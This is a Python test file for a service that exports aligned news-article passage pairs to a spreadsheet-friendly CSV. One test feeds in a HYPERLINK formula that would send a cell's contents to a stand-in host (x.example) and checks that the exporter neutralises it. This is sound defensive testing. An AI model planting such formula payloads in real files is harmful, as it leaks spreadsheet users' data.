"""pairs.csv: one spreadsheet row per aligned pair, in the report's order."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from service.export import PAIR_COLUMNS, pair_rows, stance_summary, write_pairs_csv
from tests.service.test_report import sample_result


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_rows_follow_the_report_order_and_carry_both_sides(tmp_path: Path) -> None:
    result = sample_result()
    result["alignments"][2]["divergence"]["evidence"] = 0.5  # most evidence: first
    path = tmp_path / "pairs.csv"
    assert write_pairs_csv(path, pair_rows(result, event="closure")) == 3
    rows = read_csv(path)
    assert list(rows[0]) == list(PAIR_COLUMNS)
    assert [(r["a"], r["b"]) for r in rows] == [("ru1:1", "en1:1"), ("ru1:0", "az1:0"),
                                               ("az1:0", "en1:0")]  # fmt: skip
    first, second = rows[1], rows[2]
    assert (first["outlet_a"], first["camp_b"], first["language_b"]) == ("Vestnik", "azerbaijani",
                                                                          "az")  # fmt: skip
    assert (first["divergence"], first["stance"], first["residual"]) == ("0.72", "0.8", "")
    assert first["stance_a"] == "Azerbaijan: against 0.85"
    assert (first["commitment_a"], first["voice_a"]) == ("hedged", "quoted: spokeswoman")
    assert (first["terms_a"], first["terms_b"]) == ("недоразумением", "kəşfiyyat")
    assert first["text_a"] == result["articles"][0]["passages"][0]["text"]
    assert second["terms_a"] == "" and second["evidence"] == ""
    # articles without an event field: the given event, and not known to be one event
    assert {r["event"] for r in rows} == {"closure"} and {r["same_event"] for r in rows} == {"0"}
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # spreadsheets then read UTF-8


def test_one_event_and_links_to_unknown_passages() -> None:
    result = sample_result(full=False)
    for article in result["articles"]:
        article["event"] = "closure"
    result["alignments"].append({"a": "ru1:0", "b": "gone:3", "similarity": 0.99, "margin": 2.0})
    rows = list(pair_rows(result))
    assert len(rows) == 3 and {r["same_event"] for r in rows} == {1}
    assert all(r["divergence"] == "" and r["stance_a"] == "" for r in rows)
    assert [r["a"] for r in rows] == ["ru1:1", "az1:0", "ru1:0"]  # by similarity, without scores


def test_text_that_a_spreadsheet_would_run_is_neutralised(tmp_path: Path) -> None:
    result = sample_result()
    passage = result["articles"][2]["passages"][0]
    passage["text"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
    write_pairs_csv(tmp_path / "p.csv", pair_rows(result))
    rows = read_csv(tmp_path / "p.csv")
    cell = next(r["text_b"] for r in rows if r["b"] == "en1:0")
    assert cell == "'" + passage["text"]


def test_stance_summary() -> None:
    stance = {"Russia": {"favor": 0.1, "against": 0.72, "none": 0.18},
              "Azerbaijan": {"favor": 0.02, "against": 0.03, "none": 0.95}}  # fmt: skip
    assert stance_summary(stance) == "Russia: against 0.72; Azerbaijan: none 0.95"
    assert stance_summary(None) == "" and stance_summary({"Russia": "odd"}) == ""


def test_a_failing_row_source_leaves_no_file_behind(tmp_path: Path) -> None:
    def rows():
        yield from pair_rows(sample_result())
        raise OSError("event file unreadable")

    with pytest.raises(OSError, match="unreadable"):
        write_pairs_csv(tmp_path / "pairs.csv", rows())
    assert list(tmp_path.iterdir()) == []
